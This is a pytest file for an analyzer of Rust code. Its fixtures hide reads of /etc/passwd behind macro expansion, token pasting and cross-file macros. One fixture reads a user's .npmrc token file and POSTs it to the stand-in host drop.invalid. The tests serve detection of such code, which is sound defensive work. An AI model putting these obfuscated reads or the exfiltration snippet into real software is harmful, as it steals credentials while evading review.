"""Own macros that build paths, join words, or take pairs: their invocations are written out."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report, Span, Verdict

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]
READS = {
    "two words": """
        macro_rules! of { ($a:ident . $b:ident) => { ::std::$a::$b }; }
        pub fn go() { let _ = of!(fs.read)("/etc/passwd"); }""",
    "held in a local": """
        macro_rules! of { ($a:ident . $b:ident) => { ::std::$a::$b }; }
        macro_rules! attempt { ($($s:tt)+) => { match of!($($s)+) { f => f } }; }
        pub fn go() { let load = attempt!(fs.read); let _ = load("/etc/passwd"); }""",
    "segments in a list": """
        macro_rules! path { ($($p:ident)/+) => { $($p)::+ }; }
        pub fn go() { let _ = path!(std/fs/read)("/etc/passwd"); }""",
    "the callee as a parameter": """
        macro_rules! call { ($f:path, $($a:expr),*) => { $f($($a),*) }; }
        pub fn go() { let _ = call!(std::fs::read, "/etc/passwd"); }""",
    "a type": """
        macro_rules! ty { ($m:ident $t:ident) => { std::$m::$t }; }
        pub fn go() { let _ = <ty!(fs File)>::open("/etc/passwd"); }""",
    "a use": """
        macro_rules! bring { ($($m:ident :: $f:ident),*) => { $( use std::$m::$f; )* }; }
        bring!(fs::read);
        pub fn go() { let _ = read("/etc/passwd"); }""",
    "a whole function": """
        macro_rules! make { ($name:ident => $m:ident . $f:ident) => { fn $name(p: &str) { let _ = std::$m::$f(p); } }; }
        make!(tidy => fs.read);
        pub fn go() { tidy("/etc/passwd"); }""",
    "words joined": """
        pub fn go() { paste::paste! { let _ = std::fs::[<re ad>]("/etc/passwd"); } }""",
    "words joined by a macro of its own": """
        macro_rules! of { ($a:ident $b:ident . $c:ident) => {
            paste::paste! { std::[<$a $b>]::[<re $c>]("/etc/passwd") } }; }
        pub fn go() { let _ = of!(f s . ad); }""",
    "words joined by a macro that is re-exported": """
        macro_rules! of { ($a:ident $b:ident) => {
            $crate::paste::paste! { ::std::[<$a $b>]::read("/etc/passwd") } }; }
        pub fn go() { let _ = of!(f s); }""",
    "a macro by its path": """
        macro_rules! inner { ($m:ident $f:ident $p:expr) => { std::$m::$f($p) }; }
        macro_rules! outer { ($p:expr) => { $crate::inner!(fs read $p) }; }
        pub fn go() { let _ = outer!("/etc/passwd"); }""",
    "pairs": """
        macro_rules! all { ($($f:ident <- $p:literal),*) => { $( let _ = std::fs::$f($p); )* }; }
        pub fn go() { all!(read <- "/etc/passwd"); }""",
    "from another macro": """
        macro_rules! inner { ($m:ident $f:ident $p:expr) => { std::$m::$f($p) }; }
        macro_rules! outer { ($p:expr) => { inner!(fs read $p) }; }
        pub fn go() { let _ = outer!("/etc/passwd"); }""",
    "token by token": """
        macro_rules! munch {
            (@ $p:expr; $a:ident $b:ident) => { std::$a::$b($p) };
            ($p:expr; skip $($rest:tt)*) => { munch!($p; $($rest)*) };
            ($p:expr; $($rest:tt)*) => { munch!(@ $p; $($rest)*) };
        }
        pub fn go() { let _ = munch!("/etc/passwd"; skip skip fs read); }""",
}


@pytest.mark.parametrize("source", READS.values(), ids=READS)
def test_what_a_macro_builds_is_found(facts_of: FactsOf, source: str) -> None:
    found = [one for one in facts_of(source, "src/lib.rs") if one.kind is FactKind.FILE_READ]
    assert "/etc/passwd" in [one.subject for one in found]


ELSEWHERE = {
    name: source
    for name, source in READS.items()
    if "fn $name" not in source and "use std::$m" not in source  # they make items of their file
}


@pytest.mark.parametrize("source", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_macro_of_another_file_is_found(facts_of: FactsOf, source: str) -> None:
    lines = source.strip().split("pub fn go", 1)
    files = {"src/lib.rs": "#[macro_use] mod m; mod u; pub use u::go;", "src/m.rs": lines[0]}
    found = facts_of("pub fn go" + lines[1], "src/u.rs", **files)
    assert "/etc/passwd" in [one.subject for one in found if one.kind is FactKind.FILE_READ]


def test_the_place_is_that_of_the_invocation(facts_of: FactsOf) -> None:
    source = """macro_rules! of { ($a:ident . $b:ident) => { ::std::$a::$b }; }
        pub fn go() {
            let a = of!(env.var)("HOME");
            let b = std::fs::read("/etc/passwd");
        }"""
    found = {one.kind: one.where for one in facts_of(source, "src/lib.rs")}
    lines = [found[one] for one in (FactKind.ENV_READ, FactKind.FILE_READ)]
    assert [one.line for one in lines if isinstance(one, Span)] == [3, 4]


def test_pairs_that_a_macro_sends_are_seen(report_of: ReportOf) -> None:
    source = """
        macro_rules! all { ($($name:literal => $host:literal),*) => { $( send($host, $name); )* }; }
        fn send(host: &str, name: &str) {
            let at = dirs::home_dir().unwrap().join(name);
            ureq::post(host).send_bytes(&std::fs::read(at).unwrap()).ok();
        }
        pub fn go() { all!(".npmrc" => "https://drop.invalid"); }"""
    assert report_of({"src/lib.rs": source}).verdict is not Verdict.CLEAR


def test_a_macro_without_an_end_is_left_alone(facts_of: FactsOf) -> None:
    source = """
        macro_rules! a { ($x:ident $($t:tt)*) => { a!($x $x $($t)*) }; ($x:path) => { $x::y }; }
        pub fn go() { a!(fs); let _ = std::fs::read("/etc/passwd"); }"""
    assert FactKind.FILE_READ in {one.kind for one in facts_of(source, "src/lib.rs")}
